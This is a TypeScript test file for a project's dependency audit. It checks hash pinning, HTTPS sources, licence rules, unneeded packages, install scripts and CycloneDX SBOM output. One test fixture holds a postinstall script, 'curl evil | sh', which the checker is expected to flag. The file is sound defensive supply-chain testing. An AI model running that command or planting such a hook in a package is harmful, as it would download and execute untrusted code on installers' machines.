import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, onTestFinished, test } from 'vitest'
import { faultsIn, isAllowed } from '../../../scripts/dependencies/checks.ts'
import { type Lock, packagesIn, readLock } from '../../../scripts/dependencies/lock.ts'
import { sbomOf } from '../../../scripts/dependencies/sbom.ts'

const root = fileURLToPath(new URL('../../../', import.meta.url))
const integrity = `sha512-${'A'.repeat(86)}==`
const good = { version: '1.2.3', license: 'MIT', integrity }

/** A project that needs one package. */
const needing = (more: object, others: Lock = {}): Lock => ({
  '': { name: 'ours', version: '1.0.0', dependencies: { theirs: '^1.0.0' } },
  'node_modules/theirs': { ...good, ...more },
  ...others,
})

describe('packages of others', () => {
  test('are pinned by their hash, under licences we take, needed by somebody, and run nothing when installed', () => {
    const lock = readLock(root)
    expect(packagesIn(lock).length).toBeGreaterThan(100)
    expect(faultsIn(lock, root)).toEqual([])
  })

  test.each([
    ['without a hash', { integrity: undefined }, 'theirs 1.2.3 is not pinned by its SHA-512'],
    [
      'with a weak hash',
      { integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' },
      'theirs 1.2.3 is not pinned by its SHA-512',
    ],
    ['from a repository', { version: 'github:a/b' }, 'theirs github:a/b has no exact version'],
    ['over plain HTTP', { resolved: 'http://x/y.tgz' }, 'theirs 1.2.3 does not come from a registry over HTTPS'],
    ['under the GPL', { license: 'GPL-3.0' }, 'theirs 1.2.3 has a licence we do not take: GPL-3.0'],
    ['that installs itself', { hasInstallScript: true }, 'theirs 1.2.3 would run install when it is installed'],
  ])('one %s is named', (_name, more, fault) => {
    expect(faultsIn(needing({}), '/nowhere')).toEqual([])
    expect(faultsIn(needing(more), '/nowhere')).toEqual([fault])
  })

  test('one that nobody needs is named, one that another needs is not', () => {
    const stray = { 'node_modules/stray': good }
    expect(faultsIn(needing({}, stray), '/nowhere')).toEqual(['stray 1.2.3 is needed by nobody'])
    expect(faultsIn(needing({ dependencies: { stray: '*' } }, stray), '/nowhere')).toEqual([])
  })

  test('what a package would run is read where it is installed, whatever the lock says', () => {
    const folder = mkdtempSync(join(tmpdir(), 'overseer-dependencies-'))
    onTestFinished(() => rmSync(folder, { recursive: true }))
    mkdirSync(join(folder, 'node_modules/theirs'), { recursive: true })
    const manifest = { scripts: { postinstall: 'curl evil | sh', test: 'x' } }
    writeFileSync(join(folder, 'node_modules/theirs/package.json'), JSON.stringify(manifest))
    expect(faultsIn(needing({}), folder)).toEqual(['theirs 1.2.3 would run postinstall when it is installed'])
  })

  test('a choice of licences is taken if one of them will do', () => {
    expect(['(MIT OR GPL-3.0)', 'MIT AND ISC', 'MIT AND GPL-3.0', 'GPL-2.0 OR GPL-3.0'].map(isAllowed)).toEqual([
      true,
      true,
      false,
      false,
    ])
  })
})

describe('the list of everything the project is made of', () => {
  test('names every package with version, licence and hash, and who needs whom', () => {
    const lock = readLock(root)
    const sbom = sbomOf(lock)
    expect(sbom).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6', version: 1 })
    expect(sbom.serialNumber).toMatch(/^urn:uuid:[\da-f]{8}-[\da-f]{4}-8[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/)
    const refs = sbom.components.map(one => one['bom-ref'])
    expect(new Set(refs).size).toBe(refs.length)
    for (const one of sbom.components) {
      expect(one.licenses).toHaveLength(1)
      expect(one.hashes![0]!.content).toMatch(/^[\da-f]{128}$/)
    }
    const known = new Set([...refs, sbom.metadata.component['bom-ref']])
    for (const { ref, dependsOn } of sbom.dependencies)
      for (const one of [ref, ...dependsOn]) expect(known).toContain(one)
    expect(
      sbom.dependencies.some(({ ref, dependsOn }) => ref.startsWith('pkg:npm/fastify@') && dependsOn.length > 3),
    ).toBe(true)
    expect(sbomOf(lock)).toEqual(sbom)
  })
})
